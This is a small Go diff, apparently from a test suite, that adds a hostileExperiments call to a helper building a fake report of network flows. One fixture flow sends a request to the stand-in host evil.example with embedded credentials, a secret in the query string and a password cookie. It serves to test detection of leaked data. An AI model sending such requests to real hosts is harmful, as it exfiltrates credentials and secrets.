@@ -247,6 +247,7 @@ func hostileWith(bad string) *Report {
 		},
 	}
 	hostileSent(r, bad)
+	hostileExperiments(r, bad)
 	r.Flows = each(
 		flowtest.Get("https://user:hunter2@evil.example/?q="+secret, flowtest.Asked("evil.example:443"), flowtest.Host("evil.example"), flowtest.UserAgentOf(bad), flowtest.Header("Cookie", "a=hunter2"),
 			flowtest.ResponseBody("text/html", strings.ToValidUTF8(bad, "?"))),
